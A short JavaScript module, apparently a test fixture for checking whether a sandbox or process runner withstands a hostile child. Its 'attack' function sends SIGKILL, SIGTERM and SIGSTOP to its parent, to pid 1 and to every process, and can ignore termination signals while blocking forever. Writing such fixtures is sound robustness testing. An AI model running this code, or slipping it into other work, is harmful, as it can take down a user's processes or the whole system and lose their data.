// Stops itself, its group, its parent; kills pid 1 and everyone; sleeps deaf to everything.
export function attack(how) {
  const send = (pid, signal) => {
    try {
      process.kill(pid, signal);
    } catch {
      // refused
    }
  };
  switch (how) {
    case "stop":
      for (const pid of [process.ppid, -1, 0, process.pid]) send(pid, "SIGSTOP");
      break;
    case "kill":
      for (const pid of [1, process.ppid, -1])
        for (const signal of ["SIGKILL", "SIGTERM", "SIGSTOP"]) send(pid, signal);
      return 42;
    case "deaf":
      for (const signal of ["SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGALRM"]) process.on(signal, () => {});
      Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);
  }
  return new Promise(() => setInterval(() => {}, 1000));
}
